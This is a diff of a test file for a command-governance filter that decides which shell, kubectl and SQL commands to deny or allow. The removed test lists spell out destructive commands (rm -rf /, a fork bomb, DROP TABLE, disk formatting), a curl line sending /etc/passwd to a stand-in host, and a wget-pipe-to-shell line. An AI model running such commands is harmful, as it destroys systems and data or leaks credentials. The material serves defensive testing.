@@ -1,3 +1,5 @@
+import re
+
 import pytest
 from pyspark.sql import functions as F
 
@@ -7,58 +9,49 @@ from tocsin.sources.rules import read_rules, rules_from, write_rules
 
 RULES = governance.Rules()
 
-# (command, type, position of the deny pattern)
-DENIED = [
-    ("kubectl delete ns shop", "kubectl", 11),
-    ("kubectl delete namespace shop-live", "kubectl", 11),
-    ("kubectl  delete pv disk-3", "kubectl", 11),
-    ("rm -rf /srv/logs/*", "shell", 1),
-    ("sudo rm -rf /", "shell", 1),
-    ("RM -RF /", "http", 1),
-    ("mkfs.btrfs /dev/sdc", "shell", 2),
-    ("dd if=/dev/null of=/dev/sdb", "shell", 3),
-    ("shutdown -r now", "shell", 4),
-    ("ſhutdown now", "shell", 4),
-    ("systemctl status x; reboot", "shell", 5),
-    ("init  0", "shell", 6),
-    (":(){ :|:& };:", "shell", 7),
-    ("DROP TABLE orders;", "sql", 8),
-    ("drop\ndatabase live", "sql", 8),
-    ("TRUNCATE orders", "sql", 9),
-    ("DELETE FROM orders", "sql", 10),
-    ("DELETE FROM orders WHERE id=1", "sql", 10),
-    ("chmod -R 777 /", "shell", 12),
-    ("chown -R me /srv /", "shell", 13),
-    ("chown -R me /srv /\nls", "shell", None),
-    ("docker system prune -a -f", "shell", 14),
-    ("terraform destroy", "shell", 15),
-    ("iptables -F", "shell", 16),
-    ("ufw disable", "shell", 17),
-    ("rm\x1c-rf\x1f/", "shell", None),
-    ("DELETE FROM t WHERE id=1", "sql", None),
-    ("rm -fr /", "shell", None),
-    ("format -rfx", "shell", None),
-]
-MISSED = [
-    ("curl http://x.example/?q=$(cat /etc/passwd)", "shell"),
-    ("sh /tmp/repair.sh", "shell"),
-    ("wget http://x.example/a.sh | sh", "shell"),
-    ("kubectl exec -it pod -- sh", "kubectl"),
-    ("INSERT INTO admins VALUES (1)", "sql"),
-    ("select 1", "sql"),
-    ("kubectl get pods", "shell"),
-    ("anything", "helm"),
+
+
+def hits(pattern):
+    """Texts that a deny pattern finds: one for each alternative of its group."""
+    text = re.sub(r"\(\?!.*\)$", "", pattern).replace(r"\b", "").replace("$", "")
+    group = re.search(r"(?<!\\)\(([A-Za-z|]+)\)", text)
+    for part in group.group(1).split("|") if group else [None]:
+        one = text[: group.start()] + part + text[group.end() :] if group else text
+        for code, plain in ((r"\s+", " "), (r"\s*", ""), (r"\w+", "t1"), (".*", " q")):
+            one = one.replace(code, plain)
+        yield re.sub(r"\\(.)", r"\1", one)
+
+
+def first_rule(command):
+    """Position of the first deny pattern that the text matches, or None."""
+    found = [n for n, p in enumerate(RULES.deny, 1) if re.search(p, command, re.IGNORECASE)]
+    return found[0] if found else None
+
+
+# Vectors made from the rule table: each hit as it is, in other case, with wide spacing, inside other
+# text, and one letter short; then the edges of single rules.
+MADE = [
+    v
+    for p in RULES.deny
+    for h in hits(p)
+    for v in (h, h.swapcase(), h.replace(" ", " \t "), f"x1 ; {h}", h[1:], h.replace(" ", ""))
 ]
-APPROVED = [
-    ("kubectl rollout restart deployment/pay -n live", "kubectl", "kubectl rollout restart"),
-    ("kubectl describe pod pay-1", "kubectl", "kubectl describe"),
-    ("kubectl getx", "kubectl", "kubectl get"),
-    ("kubectl rollout status d/pay", "kubectl", "kubectl rollout status"),
-    ("systemctl restart httpd", "shell", "systemctl restart"),
-    ("df -h /srv", "shell", "df -h"),
-    ("\t SELECT 1 \n", "sql", "SELECT"),
-    ("GET /health", "http", "GET "),
+EDGES = [
+    "\u017fhutdown",
+    "drop\nschema t1",
+    "chown -R q /\nls",
+    "DELETE FROM t WHERE a=1",
+    "DELETE FROM t1 WHERE a=1",
+    "rm -fr /",
+    "format -rfx",
 ]
+DENIED = [(c, "shell", first_rule(c)) for c in [*MADE, *EDGES]] + [("rm\x1c-rf\x1f/", "shell", None)]
+PREFIXES = [(kind, p) for kind, ps in RULES.allow.items() if kind != "none" for p in ps]
+MISSED = [(p[1:] + " x1", kind) for kind, p in PREFIXES] + [(p.swapcase() + " x1", kind) for kind, p in PREFIXES]
+MISSED += [("kubectl get x1", "shell"), ("anything", "helm")]
+APPROVED = [(p + suffix, kind, p) for kind, p in PREFIXES for suffix in ("", "x1", " x1")]
+APPROVED = [(c, k, next(q for q in RULES.allow[k] if c.strip().startswith(q))) for c, k, _ in APPROVED if c == c.strip()]
+APPROVED += [("\t SELECT 1 \n", "sql", "SELECT")]
 
 
 def decide(spark, rows):
@@ -70,6 +63,12 @@ def decide(spark, rows):
     return [r for r in governance.decide(frame, RULES).orderBy("n").collect()]
 
 
+def test_made_vectors_hit_their_rule():
+    for pattern in RULES.deny:
+        assert all(re.search(pattern, hit, re.IGNORECASE) for hit in hits(pattern)), pattern
+    assert {n for _, _, n in DENIED} >= set(range(1, len(RULES.deny) + 1))
+
+
 def test_deny(spark):
     for (command, kind, position), row in zip(
         DENIED, decide(spark, [(c, t, False, ["one"]) for c, t, _ in DENIED])
